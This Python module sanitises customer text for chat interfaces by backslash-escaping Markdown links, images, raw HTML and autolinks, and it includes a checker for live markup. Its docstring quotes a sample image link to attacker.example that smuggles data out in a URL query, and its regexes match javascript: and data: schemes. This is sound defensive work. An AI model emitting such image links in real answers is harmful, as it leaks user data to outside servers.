"""Customer text as chat front ends render it: Markdown, where `![s](https://attacker.example/p.png?q=...)` in a
ticket would load an image from a stranger's server the moment the answer is shown (and carry whatever the URL
holds), and a link would invite a click.

`inert` escapes exactly the syntax that makes links, images and raw HTML, and breaks the autolinking of bare
addresses, with backslash escapes: CommonMark and GFM renderers (Open WebUI, LibreChat) then show the same
characters, so a quote still reads verbatim, but nothing loads and nothing is clickable. An answer of ours
never needs a link, so the whole text that reaches a chat client goes through it; citations in the JSON keep
the record's exact text for verification.
"""

from __future__ import annotations

import re

_LINK_RE = re.compile(r"(!?)\[([^\]\n]*)\]\s*([(\[])")
_SCHEME_RE = re.compile(r"\b(https?|ftp|mailto|data|javascript|file):", re.I)
_WWW_RE = re.compile(r"\b(www)\.", re.I)
_HTML_RE = re.compile(r"<(?=[A-Za-z!/?])")


def _link(m: re.Match[str]) -> str:
    bang, label, opener = m.group(1), m.group(2), m.group(3)
    return ("\\!" if bang else "") + "\\[" + label + "\\]" + "\\" + opener


def inert(text: str) -> str:
    """Text whose links, images and HTML render as plain characters (see the module's docstring)."""
    text = _HTML_RE.sub(r"\\<", text)
    text = _LINK_RE.sub(_link, text)
    text = _SCHEME_RE.sub(lambda m: m.group(1) + "\\:", text)
    return _WWW_RE.sub(lambda m: m.group(1) + "\\.", text)


def has_live_markup(text: str) -> bool:
    """Whether text (already made inert or not) still holds an image, a link or an autolink a renderer would
    act on: the test of `inert`, usable by callers that check their output."""
    unescaped = re.sub(r"\\.", "", text)
    return bool(
        re.search(r"!?\[[^\]\n]*\]\s*[(\[]", unescaped)
        or re.search(r"\b(?:https?|ftp|data|javascript):", unescaped, re.I)
        or re.search(r"\bwww\.", unescaped, re.I)
        or re.search(r"<[A-Za-z!/?]", unescaped)
    )
